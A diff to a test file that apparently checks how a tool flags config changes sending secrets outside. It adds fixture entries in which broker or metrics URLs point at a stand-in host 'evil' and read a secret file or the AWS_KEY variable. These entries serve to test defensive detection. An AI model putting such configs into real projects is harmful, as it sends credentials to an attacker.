@@ -105,6 +105,8 @@ def test_an_ssh_config_that_changed_is_asked_about_again(folder: Path) -> None:
 
 OUTSIDE = [
     ("broker: {url: 'mqtt://evil', password_file: ../secret}", "reads {secret} and sends it to evil:1883 as a password"),
+    ("metrics: {url: 'http://evil', token_file: ../secret}", "reads {secret} and sends it to evil:80 as a token"),
+    ("metrics: {url: 'http://evil', token_env: AWS_KEY}", "sends the variable AWS_KEY to evil:80 as a token"),
     ("broker: {url: 'mqtt://evil', agents_file: ../secret}", "reads {secret}, sends its passwords to the nodes and may add to it"),
     ("broker: {url: 'mqtts://evil', ca_file: ../secret}", "reads {secret}"),
     ("broker: {url: 'mqtt://evil', password_env: TOKEN}", "sends the variable TOKEN to evil:1883 as a password"),
